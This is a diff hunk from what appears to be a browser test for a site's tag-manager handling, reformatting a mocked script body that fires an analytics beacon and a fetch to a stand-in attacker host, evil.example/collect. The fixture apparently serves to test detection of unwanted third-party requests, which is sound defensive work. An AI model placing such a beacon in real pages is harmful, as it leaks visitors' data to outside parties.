@@ -126,7 +126,9 @@ describe("with a tag manager", () => {
       measured.push(route.request().url());
       return route.fulfill({ status: 204, headers: { "access-control-allow-origin": "*" } });
     });
-    const body = `fetch("https://region1.google-analytics.com/g/collect", { method: "POST" }); fetch("https://evil.example/collect").catch(() => {})`;
+    const body =
+      `fetch("https://region1.google-analytics.com/g/collect", { method: "POST" }); ` +
+      `fetch("https://evil.example/collect").catch(() => {})`;
     await intercept(page, "https://www.googletagmanager.com/**", (route) => route.fulfill({ contentType: "text/javascript", body }));
     await page.goto(`${site.url}/how-it-works/`);
     await page.getByRole("button", { name: "Accept all" }).click();
